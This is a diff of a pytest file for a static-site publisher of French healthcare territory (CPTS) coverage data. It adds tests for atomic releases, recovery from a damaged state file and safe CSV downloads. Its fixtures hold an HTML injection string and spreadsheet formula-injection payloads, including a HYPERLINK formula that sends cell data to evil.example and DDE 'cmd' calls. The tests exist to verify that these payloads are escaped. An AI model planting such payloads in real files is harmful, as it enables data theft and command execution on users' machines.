@@ -1,19 +1,25 @@
-"""The static site: content, escaping, changes between runs, lock, and atomicity when a run fails
-or is killed. The published pages are also loaded in headless Chromium from 127.0.0.1."""
+"""The static site: content, escaping, formula-safe downloads, changes between runs and a damaged
+state, lock, targets refused before building, and atomicity when a run fails or is killed (the
+first migration from a plain directory included). The published pages are also loaded in
+headless Chromium from 127.0.0.1. The tests that publish are marked slow."""
 
 from __future__ import annotations
 
+import csv
+import errno
 import functools
 import hashlib
 import html
 import json
 import os
 import re
+import shutil
 import signal
 import subprocess
 import sys
 import threading
 import time
+import traceback
 from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
@@ -22,13 +28,12 @@ import pytest
 from helpers import ROOT, SEEDS
 
 from cpts_geo.cli import main
-from cpts_geo.errors import PublishError, TerritoryError
+from cpts_geo.errors import CptsGeoWarning, PublishError, TerritoryError
 from cpts_geo.io import readers
+from cpts_geo.publishing import release as release_module
 from cpts_geo.publishing import site as site_module
 from cpts_geo.publishing.release import lock as _lock
 from cpts_geo.publishing.site import publish
-
-pytestmark = pytest.mark.slow  # every test here publishes a site
 
 HOSTILE = "<img src=x onerror=alert(1)>"
 CHROMIUM = Path("/usr/bin/chromium")
@@ -60,6 +65,7 @@ def site(tmp_path_factory):
     return tmp, result
 
 
+@pytest.mark.slow
 def test_site_layout_and_figures(site):
     tmp, result = site
     out = tmp / "site"
@@ -91,6 +97,7 @@ def test_site_layout_and_figures(site):
     assert result.timings.keys() >= {"read_territories", "coverage", "departements", "swap"}
 
 
+@pytest.mark.slow
 def test_pages_link_each_departement_and_sort(site):
     tmp, _ = site
     index = (tmp / "site" / "index.html").read_text("utf-8")
@@ -108,6 +115,7 @@ def test_pages_link_each_departement_and_sort(site):
     assert len(mapping.encode()) < 2_000_000
 
 
+@pytest.mark.slow
 def test_hostile_names_are_text_everywhere(site):
     tmp, _ = site
     for page in ("index.html", "departements/38/index.html"):
@@ -118,6 +126,7 @@ def test_hostile_names_are_text_everywhere(site):
     assert "<img src=x" not in mapping
 
 
+@pytest.mark.slow
 @pytest.mark.browser
 def test_published_pages_in_headless_chromium(site, tmp_path):
     if not CHROMIUM.exists():
@@ -162,6 +171,7 @@ def test_published_pages_in_headless_chromium(site, tmp_path):
         httpd.server_close()
 
 
+@pytest.mark.slow
 def test_a_second_concurrent_run_is_refused(tmp_path, capsys):
     out = tmp_path / "site"
     with _lock(out):
@@ -172,6 +182,7 @@ def test_a_second_concurrent_run_is_refused(tmp_path, capsys):
     assert not out.exists()
 
 
+@pytest.mark.slow
 def test_a_failed_run_leaves_the_previous_site_intact(site, tmp_path):
     tmp, result = site
     out = tmp / "site"
@@ -185,6 +196,7 @@ def test_a_failed_run_leaves_the_previous_site_intact(site, tmp_path):
     assert not list((tmp / "site.releases").glob(".build-*"))
 
 
+@pytest.mark.slow
 def test_a_killed_run_leaves_the_previous_site_intact(site, monkeypatch):
     tmp, result = site
     out = tmp / "site"
@@ -232,3 +244,202 @@ def test_a_killed_run_leaves_the_previous_site_intact(site, monkeypatch):
     assert [a["area"] for a in ch["areas"]] == ["38"] and ch["areas"][0]["delta"] < 0
     index = (out / "index.html").read_text("utf-8")
     assert "Communes sorties de la couverture : 2" in index and "Grenoble" in index
+
+
+def _copy_as_plain_site(site_dir: Path, dest: Path) -> Path:
+    """A plain directory holding a published site (as copied by hand or by an older version)."""
+    shutil.copytree(site_dir.resolve(), dest, symlinks=False)
+    return dest
+
+
+def _is_complete(site: Path, departements: list[str]) -> bool:
+    names = ["index.html", "map.html", "summary.json", "state.json", "coverage_departements.csv",
+             "assets/leaflet.js"]
+    names += [f"departements/{d}/{n}" for d in departements
+              for n in ("index.html", "map.html", "summary.json", "cpts.csv")]
+    return all((site / n).is_file() and (site / n).stat().st_size > 0 for n in names)
+
+
+@pytest.mark.slow
+def test_first_publication_over_a_plain_site_keeps_it_as_the_previous_release(site, tmp_path):
+    tmp, _ = site
+    out = _copy_as_plain_site(tmp / "site", tmp_path / "www")
+    before = _tree_digest(out)
+    result = publish(SEEDS, out, progress=False, departements="42")
+    assert out.is_symlink() and out.resolve() == result.release.resolve()
+    assert _is_complete(out, ["42"])
+    (legacy,) = [p for p in (tmp_path / "www.releases").iterdir() if p.name.endswith("-legacy")]
+    assert _tree_digest(legacy) == before  # the old site, untouched, as the previous release
+    # the change report compares with the old site's state (not a first publication)
+    ch = result.changes
+    assert ch["first_publication"] is False and ch["vintage_changed"] is False
+    assert {c["cpts"] for c in ch["cpts"] if c["change"] == "unchanged"} == {
+        "Vallée du Gier", "Sud-Est Grenoblois", "Vénissieux"}
+
+
+@pytest.mark.slow
+def test_a_first_migration_killed_at_the_switch_leaves_a_complete_site(site, tmp_path):
+    """A real publication, killed (SIGKILL) right after the plain site and the link are exchanged:
+    the moment when the old code left no site at all at --out."""
+    tmp, _ = site
+    out = _copy_as_plain_site(tmp / "site", tmp_path / "www")
+    before = _tree_digest(out)
+    pid = os.fork()
+    if pid == 0:  # the child publishes and kills itself at the switch
+        code = 0
+        try:
+            def checkpoint(name: str) -> None:
+                if name == "exchanged":
+                    os.kill(os.getpid(), signal.SIGKILL)
+
+            release_module._checkpoint = checkpoint
+            publish(SEEDS, out, progress=False, departements="42")
+        except BaseException:
+            traceback.print_exc()
+            code = 3
+        finally:
+            os._exit(code)
+    _, status = os.waitpid(pid, 0)
+    assert os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGKILL
+    assert out.is_symlink() and _is_complete(out, ["42"])  # the new site, complete
+    (stray,) = [p for p in tmp_path.iterdir() if p.name.endswith(".link")]
+    assert _tree_digest(stray) == before  # the old one waits next to it
+    again = publish(SEEDS, out, progress=False, departements="69")
+    assert out.resolve() == again.release.resolve() and _is_complete(out, ["69"])
+    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".link")]
+    (legacy,) = [p for p in (tmp_path / "www.releases").iterdir() if p.name.endswith("-legacy")]
+    assert _tree_digest(legacy) == before
+
+
+def _fake_release(tmp_path: Path, state: bytes | None, *, as_dir: bool = False) -> Path:
+    out = tmp_path / "site"
+    release = tmp_path / "site.releases" / "20260101T000000-1"
+    release.mkdir(parents=True)
+    (release / "index.html").write_text("old", encoding="utf-8")
+    if as_dir:
+        (release / "state.json").mkdir()
+    elif state is not None:
+        (release / "state.json").write_bytes(state)
+    os.symlink("site.releases/20260101T000000-1", out)
+    return out
+
+
+VINTAGE = {"cog_year": 2026, "population_year": 2026, "census_year": 2023}
+DAMAGED_STATES = {
+    "truncated": b'{"version": 1, "vintage": {"cog_year": 2026, "popul',
+    "empty": b"",
+    "not-json": b"<html>502 Bad Gateway</html>",
+    "not-utf8": b'{"version": 1, "nom": "\xff\xfe"}',
+    "latin-1": '{"version": 1, "nom": "Hérault"}'.encode("latin-1"),
+    "a-list": b"[1, 2, 3]",
+    "another-tool": b'{"name": "my-site", "version": "2.3.1"}',
+    "version-true": json.dumps({"version": True, "vintage": VINTAGE, "cpts": {},
+                                "rates": {}}).encode(),
+    "future-version": json.dumps({"version": 2, "cpts": {}, "rates": {}}).encode(),
+    "no-vintage": json.dumps({"version": 1, "cpts": {}, "rates": {}}).encode(),
+    # foreign content under the right version: each made diff() or the page crash before
+    "rate-not-object": json.dumps({"version": 1, "vintage": VINTAGE, "cpts": {},
+                                   "rates": {"42": "x"}}).encode(),
+    "rate-text": json.dumps({"version": 1, "vintage": VINTAGE, "cpts": {},
+                             "rates": {"42": {"nom": "Loire", "coverage_rate": "12%"}}}).encode(),
+    "nested-commune": json.dumps({"version": 1, "vintage": VINTAGE, "rates": {},
+                                  "cpts": {"a": {"cpts": "A", "communes": [["42218"]]}}}).encode(),
+    "name-not-text": json.dumps({"version": 1, "vintage": VINTAGE, "rates": {},
+                                 "cpts": {"a": {"cpts": {"x": 1}, "communes": []}}}).encode(),
+    "names-list": json.dumps({"version": 1, "vintage": VINTAGE, "rates": {}, "cpts": {},
+                              "names": ["x"]}).encode(),
+    "nan-rate": b'{"version": 1, "vintage": {"cog_year": 2026, "population_year": 2026, '
+                b'"census_year": 2023}, "cpts": {}, "rates": {"42": {"coverage_rate": NaN}}}',
+    "deeply-nested": b"[" * 100_000 + b"]" * 100_000,
+}
+
+
+@pytest.mark.parametrize("state", list(DAMAGED_STATES), ids=list(DAMAGED_STATES))
+def test_a_damaged_state_warns_and_restarts_the_change_report(tmp_path, state):
+    out = _fake_release(tmp_path, DAMAGED_STATES[state])
+    with pytest.warns(CptsGeoWarning, match=r"the state of the previous publication \(.*"
+                      r"state.json\) cannot be read .*the change report starts again"):
+        assert site_module._previous_state(out) is None
+    assert site_module._changes(None, {}) == {"first_publication": True}
+
+
+@pytest.mark.parametrize("kind", ["directory", "missing"])
+def test_a_state_that_is_a_directory_or_missing_warns(tmp_path, kind):
+    out = _fake_release(tmp_path, None, as_dir=kind == "directory")
+    reason = "it is not a file" if kind == "directory" else "it is missing"
+    with pytest.warns(CptsGeoWarning, match=rf"cannot be read \({reason}\)"):
+        assert site_module._previous_state(out) is None
+
+
+def test_no_previous_site_is_a_first_publication_without_warning(tmp_path, recwarn):
+    assert site_module._previous_state(tmp_path / "site") is None
+    assert not [w for w in recwarn if issubclass(w.category, CptsGeoWarning)]
+
+
+@pytest.mark.slow
+def test_a_publication_over_a_damaged_state_succeeds(site, tmp_path):
+    tmp, _ = site
+    out = _copy_as_plain_site(tmp / "site", tmp_path / "www")
+    (out / "state.json").write_bytes(DAMAGED_STATES["rate-not-object"])  # crashed diff() before
+    with pytest.warns(CptsGeoWarning, match=r"cannot be read .*'42' is not a number"):
+        result = publish(SEEDS, out, progress=False, departements="42")
+    assert result.changes == {"first_publication": True}
+    assert "Première publication" in (out / "index.html").read_text("utf-8")
+    assert json.loads((out / "state.json").read_text("utf-8"))["version"] == 1
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1;"Cliquer")',
+    "=cmd|' /C calc'!A0",
+    "+33 4 77 00 00 00",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+@pytest.mark.slow
+def test_csv_downloads_hold_no_live_formula(tmp_path):
+    terr = tmp_path / "formulas.csv"
+    rows = [("Vallée du Gier", "42218", "=1+1")]
+    rows += [(name, code, f"=WEBSERVICE(\"http://x/{i}\")")
+             for i, (name, code) in enumerate(zip(FORMULAS, ["42207", "42110", "42095", "42147",
+                                                             "42187"], strict=True))]
+    rows.append((FORMULAS[0], "42218", "source"))  # an overlap: names joined in one cell
+    with open(terr, "w", encoding="utf-8", newline="") as fh:
+        writer = csv.writer(fh)
+        writer.writerow(["cpts", "insee", "source"])
+        writer.writerows(rows)
+    out = tmp_path / "site"
+    publish(terr, out, progress=False, departements="42")
+    cells = []
+    for path in sorted(out.rglob("*.csv")):
+        with open(path, encoding="utf-8", newline="") as fh:
+            cells += [(path.name, c) for row in csv.reader(fh) for c in row]
+    live = []
+    for name, cell in cells:
+        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+            try:
+                float(cell)  # a negative number is a number, not a formula
+            except ValueError:
+                live.append((name, cell))
+    assert live == []
+    texts = {c for _, c in cells}
+    for formula in FORMULAS:  # the names are there, as text
+        assert "'" + formula in texts, formula
+    assert any(c.startswith("'" + FORMULAS[0] + "; ") or c.endswith("; " + FORMULAS[0])
+               for c in texts)  # the overlap cell, joined names
+
+
+def test_no_symbolic_links_is_refused_before_reading_anything(tmp_path, monkeypatch):
+    def never(*args, **kwargs):
+        raise AssertionError("the territories were read")
+
+    def no_links(*args, **kwargs):
+        raise OSError(errno.EPERM, "Operation not permitted")
+
+    monkeypatch.setattr(site_module, "read_territories", never)
+    monkeypatch.setattr(os, "symlink", no_links)
+    with pytest.raises(PublishError, match=r"has no symbolic links"):
+        publish(SEEDS, tmp_path / "site", progress=False)
+    assert list((tmp_path / "site.releases").iterdir()) == []
+    assert not os.path.lexists(tmp_path / "site")
